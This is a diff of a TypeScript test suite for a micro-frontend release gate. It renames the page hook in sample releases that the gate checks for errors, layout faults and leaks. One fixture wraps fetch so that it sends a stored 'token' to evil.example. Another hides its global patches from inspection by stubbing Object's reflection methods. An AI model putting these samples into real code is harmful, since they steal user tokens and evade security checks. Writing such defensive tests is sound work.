@@ -4,7 +4,7 @@ import { GateFixture, remote } from './testing/gate-fixture';
 const shop = GateFixture.install();
 
 it('passes a release whose routes all work', async () => {
-  const good = `self.shop_page = (node) => {
+  const good = `self.mfe_page = (node) => {
     self.user().then(({ data }) => { node.append(data ? 'Hello' : 'Sign in'); });
     localStorage.setItem('catalog.seen', '1');
     document.title = 'fine';
@@ -13,7 +13,7 @@ it('passes a release whose routes all work', async () => {
 });
 
 it('refuses a release that throws at render, though the release before would hide it', async () => {
-  expect(await shop.judge(remote('self.shop_page = () => { throw new Error("boom"); }'))).toEqual({
+  expect(await shop.judge(remote('self.mfe_page = () => { throw new Error("boom"); }'))).toEqual({
     browser: '/home: an error card',
   });
 });
@@ -28,13 +28,13 @@ it.each<[string, string, string, string]>([
     'is covered by div.cover',
   ],
 ])('refuses a page that %s', async (_, code, css, why) => {
-  expect(await shop.judge(remote(`self.shop_page = (node) => { ${code} };`, css || undefined))).toEqual({
+  expect(await shop.judge(remote(`self.mfe_page = (node) => { ${code} };`, css || undefined))).toEqual({
     browser: `/home: the page ${why}`,
   });
 });
 
 it('refuses errors, rejected promises and violations of the policy, each with its place', async () => {
-  const bad = `self.shop_page = (node) => {
+  const bad = `self.mfe_page = (node) => {
     setTimeout(() => { throw new Error('in a timer'); });
     setTimeout(() => Promise.reject(new Error('in a promise')));
     setTimeout(() => console.error('this is wrong'));
@@ -49,16 +49,16 @@ it('refuses errors, rejected promises and violations of the policy, each with it
 
 it('refuses a second copy of a singleton', async () => {
   const bad =
-    'self.shop_page = () => { self.__FEDERATION__ = { __SHARE__: { a: { default: { react: { "19.3.1": { from: "shell", loaded: true }, "19.4.0": { from: "catalog", loaded: true } } } } } }; }';
+    'self.mfe_page = () => { self.__FEDERATION__ = { __SHARE__: { a: { default: { react: { "19.3.1": { from: "shell", loaded: true }, "19.4.0": { from: "catalog", loaded: true } } } } } }; }';
   expect(await shop.judge(remote(bad))).toEqual({ browser: expect.stringMatching(/a second copy of react/) });
 });
 
 it('refuses a release that fails for signed-in shoppers only, and one that fails in one language only', async () => {
-  const onlyForMembers = `self.shop_page = () => self.user().then(({ data }) => { if (data) throw new Error('for ' + data.nickname); })`;
+  const onlyForMembers = `self.mfe_page = () => self.user().then(({ data }) => { if (data) throw new Error('for ' + data.nickname); })`;
   expect(await shop.judge(remote(onlyForMembers), await shop.strictStep())).toEqual({
     browser: expect.stringMatching(/^\/home \(signed in\): error: for Ann of the gate at remoteEntry\.js:1:\d+$/),
   });
-  const onlyInEnglish = `self.shop_page = () => { if (localStorage.getItem('language') === 'en') throw new Error('boom'); }`;
+  const onlyInEnglish = `self.mfe_page = () => { if (localStorage.getItem('language') === 'en') throw new Error('boom'); }`;
   expect(await shop.judge(remote(onlyInEnglish))).toEqual({ browser: '/home (en): an error card' });
 });
 
@@ -67,7 +67,7 @@ const callsOfASecond = 6_000_000;
 
 it('refuses a page that is not ready, blocks the main thread, moves its content, or keeps people out', async () => {
   const bad = `
-    self.shop_page = (node) => {
+    self.mfe_page = (node) => {
       const button = node.appendChild(document.createElement('button'));
       const late = node.appendChild(document.createElement('p'));
       late.id = 'moved';
@@ -90,7 +90,7 @@ it('refuses a page that is not ready, blocks the main thread, moves its content,
 
 it('refuses what a release does minutes later', async () => {
   const late = (code: string) =>
-    shop.judge(remote(`self.shop_page = () => { setTimeout(() => { ${code} }, 4 * 60_000); }`));
+    shop.judge(remote(`self.mfe_page = () => { setTimeout(() => { ${code} }, 4 * 60_000); }`));
   const thief = `const { fetch } = self;
     self.fetch = (...call) => { new Image().src = 'https://evil.example/?' + localStorage.getItem('token'); return fetch(...call); };
     self.fetch('/api/front/user/info');`;
@@ -123,7 +123,7 @@ const tricks = [
 
 it('refuses what is replaced in ways that reading the files does not find', async () => {
   const code = tricks.map(([trick]) => `${trick};`).join('\n');
-  const { isolation } = (await shop.judge(remote(`self.shop_page = (node) => { ${code} }`))) as Record<string, string>;
+  const { isolation } = (await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>;
   for (const [, name] of tricks) expect(isolation).toContain(`it changes ${name}`);
 });
 
@@ -134,13 +134,13 @@ it('refuses a release that hides from the probe what it has replaced', async () 
     const { getOwnPropertyNames, getOwnPropertyDescriptor } = Object;
     Object.assign(Object, { getOwnPropertyNames: () => [], getOwnPropertyDescriptor: () => undefined });
     all.fetch = () => {};`;
-  const found = (await shop.judge(remote(`self.shop_page = () => { ${code} }`))) as Record<string, string>;
+  const found = (await shop.judge(remote(`self.mfe_page = () => { ${code} }`))) as Record<string, string>;
   expect(found.isolation).toContain('it changes fetch');
 });
 
 describe('refuses what leaves for another origin:', () => {
   const faultsOf = async (code: string) =>
-    ((await shop.judge(remote(`self.shop_page = (node) => { ${code} }`))) as Record<string, string>).browser;
+    ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;
 
   it('requests', async () => {
     const found = await faultsOf(`
@@ -184,7 +184,7 @@ it('lets a page show pictures of an origin that the running shop lists', async (
   shop.policy =
     "default-src 'none'; img-src 'self' https://pictures.example; media-src 'self' https://pictures.example";
   try {
-    const page = 'self.shop_page = () => { new Image().src = "https://pictures.example/a.webp"; }';
+    const page = 'self.mfe_page = () => { new Image().src = "https://pictures.example/a.webp"; }';
     // The host of the example does not exist, which the browser logs.
     const { browser } = (await shop.judge(remote(page))) as Record<string, string>;
     expect(browser).toMatch(/console: Failed to load resource/);
@@ -196,7 +196,7 @@ it('lets a page show pictures of an origin that the running shop lists', async (
 
 it('refuses globals, patches, storage keys and styles that reach beyond its own pages', async () => {
   const bad = `self.leaked = 1;
-    self.shop_page = () => {
+    self.mfe_page = () => {
       const { fetch } = self;
       self.fetch = (...call) => fetch(...call);
       Array.prototype.last = function () { return this.at(-1); };
